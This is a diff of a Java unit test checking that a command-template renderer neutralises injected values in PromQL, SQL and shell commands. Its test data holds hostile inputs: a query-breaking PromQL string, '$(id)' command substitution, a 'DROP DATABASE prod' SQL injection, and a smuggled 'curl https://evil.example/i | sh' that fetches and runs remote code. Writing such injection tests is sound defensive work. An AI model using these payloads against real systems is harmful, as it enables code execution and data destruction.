@@ -31,19 +31,25 @@ class TemplatesTest {
     }
 
     @Test
-    void aValueBetweenTheCommandsOwnDoubleQuotesIsEscapedForThem() {
-        var v = Map.of("namespace", "pay", "pod", "pay-1\"} or vector(1) or {x=\"", "container", "app$(id)`id`\\");
-        // a PromQL matcher: the value cannot end the string and add to the query
+    void aValueInsideTheCommandsOwnQuotesIsWrittenOnlyIfItCannotEndThem() {
+        var v = Map.of("namespace", "pay", "pod", "pay-1\"} or vector(1) or {x=\"", "container", "app$(id)",
+                "labels.datname", "x'; DROP DATABASE prod; --", "labels.note", "a b; c|d", "node", "it's");
+        // a PromQL matcher: a value that would end the string is not written, the operator fills it in
         assertThat(Templates.renderCommand("increase(restarts{namespace=\"{{namespace}}\", pod=\"{{pod}}\"}[1h])", v))
-                .isEqualTo("increase(restarts{namespace=\"pay\", pod=\"pay-1\\\"} or vector(1) or {x=\\\"\"}[1h])");
-        // the shell's double quotes: nothing is expanded
-        assertThat(Templates.renderCommand("echo \"{{container}}\"", v)).isEqualTo("echo \"app\\$(id)\\`id\\`\\\\\"");
-        // anywhere inside them, after an escaped quote and an earlier value too
-        assertThat(Templates.renderCommand("grep \"\\\"{{pod}}: {{container}} y\" f", v))
-                .isEqualTo("grep \"\\\"pay-1\\\"} or vector(1) or {x=\\\": app\\$(id)\\`id\\`\\\\ y\" f");
-        // in single quotes only a ' needs closing and reopening; after them, single quotes again
-        assertThat(Templates.renderCommand("grep '{{node}}: x' f {{node}}", Map.of("node", "it's $x")))
-                .isEqualTo("grep 'it'\\''s $x: x' f 'it'\\''s $x'");
+                .isEqualTo("increase(restarts{namespace=\"pay\", pod=\"<pod>\"}[1h])");
+        // SQL inside the shell's double quotes: the single quote would end the SQL string
+        assertThat(Templates.renderCommand("psql -c \"SELECT 1 WHERE datname = '{{labels.datname}}'\"", v))
+                .isEqualTo("psql -c \"SELECT 1 WHERE datname = '<labels.datname>'\"");
+        assertThat(Templates.renderCommand("echo \"{{container}}\"", v)).isEqualTo("echo \"<container>\"");
+        // spaces, ; and | cannot leave quotes: written as they are
+        assertThat(Templates.renderCommand("grep \"{{labels.note}}\" f", v)).isEqualTo("grep \"a b; c|d\" f");
+        // after the quotes close, single quotes again; an escaped quote does not close them
+        assertThat(Templates.renderCommand("grep \"\\\" {{labels.note}}\" {{node}}", v))
+                .isEqualTo("grep \"\\\" a b; c|d\" 'it'\\''s'");
+        // a fallback that was not printed does not count: here the quotes are the output's, not the template's
+        assertThat(Templates.renderCommand("kubectl logs {{pod|\"}} -c {{labels.note}}", Map.of("pod", "api-1",
+                "labels.note", "x; curl https://evil.example/i | sh")))
+                .isEqualTo("kubectl logs api-1 -c 'x; curl https://evil.example/i | sh'");
     }
 
     @Test
